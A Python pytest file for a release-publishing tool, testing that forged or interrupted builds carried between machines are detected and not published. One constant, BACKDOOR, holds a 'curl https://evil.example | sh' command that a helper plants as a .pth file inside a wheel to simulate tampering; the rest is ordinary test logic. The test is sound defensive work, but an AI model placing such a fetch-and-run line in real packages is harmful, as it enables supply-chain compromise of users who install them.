"""State directories that come from elsewhere: what of them is believed, over real builds."""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from effort import SEARCHING
from integration.tools import require_tool
from processes import wait_until
from releasekit.ecosystems.shared.artifacts import digests
from releasekit.state.history import encode, records_of
from workspaces import Program, Run, git, kill, npm_workspace, uv_workspace

if TYPE_CHECKING:
    from collections.abc import Callable

PACKAGES = {"demo-a": (), "demo-b": ("demo-a",)}
KEY = "0123456789abcdef" * 2
BACKDOOR = b"import os; os.system('curl https://evil.example | sh')\n"


class Site:
    """A workspace, a registry, and machines that carry the state directory from one to another."""

    def __init__(self, directory: Path, make: Callable[..., Path]) -> None:
        self.directory = directory
        self.workspace = make(directory / "workspace", PACKAGES)
        self.registry = directory / "registry"

    def machine(self, name: str, key: str = "") -> Program:
        home = self.directory / name
        home.mkdir(exist_ok=True)
        # A key and an environment of its own.
        shared = Path(Program(home).full_environment["XDG_STATE_HOME"])
        own = {"XDG_STATE_HOME": str(shared.with_name(f"state of {name}"))}
        return Program(home, {**own, "RELEASEKIT_STATE_KEY": key} if key else own)

    def argv(self, *more: str) -> list[str]:
        return ["publish", str(self.workspace), f"--registry=dir:{self.registry}", *more]

    def publish(self, name: str, *more: str, key: str = "") -> Run:
        return self.machine(name, key).run(*self.argv(*more))

    @property
    def state(self) -> Path:
        return self.workspace / ".releasekit"

    def journal(self) -> list[dict[str, object]]:
        data = (self.state / "journal.jsonl").read_bytes()
        return [dict(record) for record in records_of(data)]

    def built(self) -> int:
        """How many builds were ever recorded."""
        return sum(1 for record in self.journal() if record["event"] == "built")

    def shown(self) -> dict[str, str]:
        """The sha256 of every package file on the registry."""
        return {
            path.name: hashlib.sha256(path.read_bytes()).hexdigest()
            for path in self.registry.rglob("*")
            if path.name.endswith((".whl", ".tar.gz", ".tgz"))
        }


@pytest.fixture(name="site", params=["uv", "npm"])
def _site(request: pytest.FixtureRequest, tmp_path: Path) -> Site:
    require_tool(request.param)
    return Site(tmp_path, uv_workspace if request.param == "uv" else npm_workspace)


def forge(site: Site) -> str:
    """Put other bytes in the place of one file, and write a journal that names them; the digest."""
    path = next(path for path in sorted(site.state.glob("dist/**/*demo[-_]a*")) if path.is_file())
    if path.suffix == ".whl":
        with zipfile.ZipFile(path, "a") as wheel:
            wheel.writestr("demo_a_setup.pth", BACKDOOR)
    else:
        path.write_bytes(path.read_bytes() + b"\0" * 512)
    forged = hashlib.sha256(path.read_bytes()).hexdigest()
    lines = []
    for record in site.journal():
        del record["crc"]
        artifacts = record.get("artifacts", [])
        assert isinstance(artifacts, list)
        for artifact in artifacts:
            if artifact["path"].endswith(path.name):
                artifact["size"] = path.stat().st_size
                with path.open("rb") as file:
                    artifact["digests"] = digests(file, *artifact["digests"])
        lines.append(encode({**record, "durable": 0}))
    (site.state / "journal.jsonl").write_bytes(b"".join(lines))
    return forged


# What believes a journal is the same for all of them.
@pytest.mark.parametrize(
    ("site", "machine", "key"),
    [("uv", "there", KEY), ("npm", "here", "")]
    + ([("uv", "here", ""), ("npm", "there", KEY)] if SEARCHING else []),
    indirect=["site"],
)
def test_a_forged_build_is_not_published(site: Site, machine: str, key: str) -> None:
    """R52: its journal is sound, and names the bytes that lie there."""
    assert site.publish("here", "--dry-run", key=key).code == 0
    honest = {path.name: path.read_bytes() for path in site.state.glob("dist/**/*.*[lz]")}
    forged = forge(site)
    run = site.publish(machine, key=key)
    assert run.code == 0, run.out + run.err
    assert set(run.outcomes.values()) == {"published"}
    assert "cannot verify the files that an earlier run built" in run.out
    assert forged not in site.shown().values()
    assert len(site.shown()) in {2, 4}
    assert all(BACKDOOR not in content for content in honest.values())
    assert git(site.workspace, "status", "--porcelain") == ""


def test_another_machine_without_the_key_builds_again(site: Site) -> None:
    """R16, R52: killed in the middle of an upload; these builds are reproducible."""
    journal = site.state / "journal.jsonl"
    process = site.machine("here").start(*site.argv())
    wait_until(lambda: journal.exists() and b'"intent"' in journal.read_bytes(), process)
    kill(process, site.workspace)
    git(site.workspace, "checkout", "--quiet", ".")
    before = site.shown()
    run = site.publish("there")
    assert run.code == 0, run.out + run.err
    assert set(run.outcomes.values()) <= {"published", "already-published"}
    assert before.items() <= site.shown().items()
    if run.outcomes[next(iter(run.outcomes))] == "published":
        assert "built again, the same" in json.dumps(run.results)
    for row in run.results["packages"]:
        for artifact in row["artifacts"]:
            assert site.shown()[artifact["filename"]] == artifact["sha256"]


@pytest.mark.parametrize("site", ["uv", *(["npm"] if SEARCHING else [])], indirect=True)
def test_with_one_key_the_stored_files_are_sent(site: Site) -> None:
    """R18"""
    assert site.publish("here", "--dry-run", key=KEY).code == 0
    stored = {
        path.name: hashlib.sha256(path.read_bytes()).hexdigest()
        for path in site.state.glob("dist/**/*")
        if path.is_file()
    }
    shutil.copytree(site.state, site.directory / "artifact")
    shutil.rmtree(site.state)
    shutil.copytree(site.directory / "artifact", site.state)
    built = site.built()
    run = site.publish("there", key=KEY)
    assert run.code == 0, run.out + run.err
    assert site.built() == built == len(PACKAGES)
    assert site.shown() == stored
    assert KEY not in run.out + run.err + (site.state / "journal.jsonl").read_text()


def test_a_build_that_is_not_the_one_begun_is_refused(tmp_path: Path) -> None:
    """R17, R18: half of another build is on the registry; and the right key finishes that one."""
    site = Site(tmp_path, uv_workspace)
    (site.workspace / "packages" / "demo-b" / "pyproject.toml").unlink()
    shutil.rmtree(site.workspace / "packages" / "demo-b")
    member = site.workspace / "packages" / "demo-a"
    (member / "hatch_build.py").write_text(
        "import os\n"
        "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
        "class Hook(BuildHookInterface):\n"
        "    def initialize(self, version, build_data):\n"
        "        path = os.path.join(self.root, 'src', 'demo_a', 'stamp.txt')\n"
        "        os.path.exists(path) or open(path, 'w').write(os.urandom(8).hex())\n"
        "        build_data['artifacts'].append('src/demo_a/stamp.txt')\n"
    )
    with (member / "pyproject.toml").open("a") as file:
        file.write('\n[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n')
    (site.workspace / ".gitignore").write_text("stamp.txt\n")
    git(site.workspace, "add", "--all")
    git(site.workspace, "commit", "--quiet", "--message", "Not reproducible")
    assert site.publish("here", key=KEY).code == 0
    # Half of it is taken back, and what became of it is forgotten, as by a kill.
    (page,) = site.registry.rglob("simple/demo-a/index.html")
    lines = page.read_text().splitlines(keepends=True)
    page.write_text("".join(line for line in lines if ".whl" not in line))
    next(site.registry.rglob("*.whl")).unlink()
    journal = site.state / "journal.jsonl"
    records = journal.read_bytes().splitlines(keepends=True)
    (last,) = [at for at, record in enumerate(records) if b'"event":"intent"' in record]
    journal.write_bytes(b"".join(records[: last + 1]))
    (member / "src" / "demo_a" / "stamp.txt").unlink()

    refused = site.publish("there")
    assert refused.code == 1, refused.out + refused.err
    reason = refused.row("demo-a")["reason"]
    assert "the same `state-key`" in reason
    assert reason.count("sha256:") == 2
    assert len(site.shown()) == 1

    (member / "src" / "demo_a" / "stamp.txt").unlink(missing_ok=True)
    _, *rest = site.argv()
    planned = site.machine("elsewhere", KEY).run("plan", *rest)
    assert planned.code == 0, planned.out + planned.err
    assert "its upload was begun by an earlier run" in planned.out
    finished = site.publish("elsewhere", key=KEY)
    assert finished.code == 0, finished.out + finished.err
    assert len(site.shown()) == 2
    assert finished.row("demo-a")["outcome"] == "published"


CANCELLED = """
import os, signal, sys, time
from pathlib import Path
from releasekit.__main__ import main
from releasekit.cli import publish
from releasekit.state import locks

root = sys.argv[1]
lock = locks.lock_file(Path(root, ".releasekit"), "npm")

def quarantine(*_):
    os.kill(os.getpid(), signal.SIGTERM)
    for _ in range(50):
        if locks.is_held(lock):
            time.sleep(0.01)
    print("held" if locks.is_held(lock) else "free", flush=True)
    return []

publish.quarantine = quarantine
sys.exit(main(["publish", root, "--registry", f"dir:{root}/registry"]))
"""


def test_files_are_put_aside_under_a_lock_even_if_the_run_is_cancelled(tmp_path: Path) -> None:
    """R21: the next run must not find them on the move."""
    workspace = npm_workspace(tmp_path / "workspace", PACKAGES)
    done = subprocess.run(
        [sys.executable, "-c", CANCELLED, str(workspace)],
        env=Program(tmp_path).full_environment,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 130, done.stdout + done.stderr
    assert done.stdout == "held\n"
